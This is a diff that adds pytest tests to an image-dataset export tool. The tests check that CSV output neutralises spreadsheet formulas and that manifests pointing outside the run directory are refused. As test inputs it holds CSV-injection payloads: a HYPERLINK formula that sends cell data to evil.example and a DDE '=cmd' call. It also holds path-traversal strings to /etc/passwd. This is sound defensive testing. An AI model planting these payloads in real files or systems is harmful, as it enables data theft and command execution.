@@ -21,7 +21,7 @@ import pytest
 
 from oibeam.schemas.boxes import BOX_COORDINATES, BOX_FLAGS, BOX_REQUIRED
 from oibeam.schemas.tables import LABEL_STRUCT
-from oibeam.tools.export.attribution import license_name
+from oibeam.tools.export.attribution import Attribution, license_name
 from oibeam.tools.export.training_list import LabelRule, positive_labels
 
 from support.runs import run_cli
@@ -591,3 +591,103 @@ def test_license_names():
         "CC0 1.0"
     )
     assert license_name("https://example.com/mine") == "https://example.com/mine"
+
+
+# --- CSV injection, manifests that cannot be trusted ------------------------
+
+# Text a spreadsheet would run as a formula (OWASP: cells starting with = + -
+# @, a tab or a carriage return), and text it would not.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+    '=1,"2"\n=3',
+]
+HARMLESS = ["Some, Author", ' a "quoted" =1', "'=1 already quoted", "x=1", "", None]
+
+
+def test_attribution_keeps_release_text_from_running_as_a_formula(tmp_path):
+    texts = FORMULAS + HARMLESS
+    n = len(texts)
+    table = pa.table(
+        {
+            "ImageID": [f"{i:016x}" for i in range(n)],
+            "Author": texts,
+            "AuthorProfileURL": texts[::-1],
+            "License": texts,
+            "OriginalLandingURL": texts[::-1],
+            "Title": texts,
+        }
+    )
+    exporter = Attribution()
+    exporter.start(str(tmp_path))
+    exporter.write(table)
+    exporter.finish()
+    with (tmp_path / "attribution.csv").open(newline="") as f:
+        raw = f.read()
+    with (tmp_path / "attribution.csv").open(newline="") as f:
+        rows = list(csv.DictReader(f))
+
+    def shown(text: str | None) -> str:
+        if text is None:
+            return ""  # absent: an empty, unquoted field
+        return "'" + text if text in FORMULAS else text
+
+    assert [r["ImageID"] for r in rows] == table["ImageID"].to_pylist()
+    for field in ("Author", "AuthorProfileURL", "License", "OriginalLandingURL"):
+        assert [r[field] for r in rows] == [shown(t) for t in table[field].to_pylist()]
+    assert [r["Title"] for r in rows] == [shown(t) for t in texts]
+    # Each is one quoted field, the quotes inside doubled: no cell of its own
+    # starts with what it holds.
+    assert '"\'=1,""2""\n=3"' in raw and '"\'\t=1+1"' in raw
+    # The license counts are of the licenses as the release gives them.
+    summary = (tmp_path / "LICENSES.txt").read_text()
+    assert "  =cmd|' /C calc'!A0" in summary
+
+
+def test_attribution_of_a_real_run_and_jsonl_keep_text_apart(run_dir):
+    """Through `oibeam export`: attribution.csv neutralises a formula, the
+    JSONL (not a spreadsheet's format) keeps the release's text as it is."""
+    author = '=HYPERLINK("http://evil.example/","credit")'
+    for part in (run_dir / "tables" / "images").glob("*.parquet"):
+        table = pq.read_table(part)
+        where = table.schema.get_field_index("Author")
+        authors = pa.array([author] * table.num_rows, table.schema.field(where).type)
+        pq.write_table(table.set_column(where, "Author", authors), part)
+    assert export(run_dir, "--format", "attribution", "--format", "jsonl") == 0
+    out = run_dir / "exports"
+    with (out / "attribution" / "attribution.csv").open(newline="") as f:
+        assert {r["Author"] for r in csv.DictReader(f)} == {"'" + author}
+    with (out / "jsonl" / "images.jsonl").open() as f:
+        assert {json.loads(line)["Author"] for line in f} == {author}
+
+
+@pytest.mark.parametrize(
+    "path",
+    ["/../../etc/passwd", "/etc/passwd", "tables/images/../../../../etc/passwd"],
+)
+def test_refuses_a_manifest_that_names_a_file_outside_the_run(run_dir, capsys, path):
+    manifest_path = run_dir / "manifest.json"
+    manifest = json.loads(manifest_path.read_text())
+    manifest["tables"]["images"]["files"][0]["path"] = path
+    manifest_path.write_text(json.dumps(manifest))
+    capsys.readouterr()
+    assert export(run_dir, "--format", "all") == 2
+    error = capsys.readouterr().err.strip()
+    assert error.startswith("oibeam export: error: ") and "\n" not in error
+    assert f"{path!r} is not a path inside the run's directory" in error
+    assert not (run_dir / "exports").exists()
+
+
+@pytest.mark.parametrize("text", ["[]", "not json", '{"tables": {}}'])
+def test_refuses_a_manifest_that_is_not_one(run_dir, capsys, text):
+    (run_dir / "manifest.json").write_text(text)
+    capsys.readouterr()
+    assert export(run_dir, "--format", "all") == 2
+    error = capsys.readouterr().err.strip()
+    assert error.startswith("oibeam export: error: ") and "\n" not in error
+    assert "manifest.json" in error
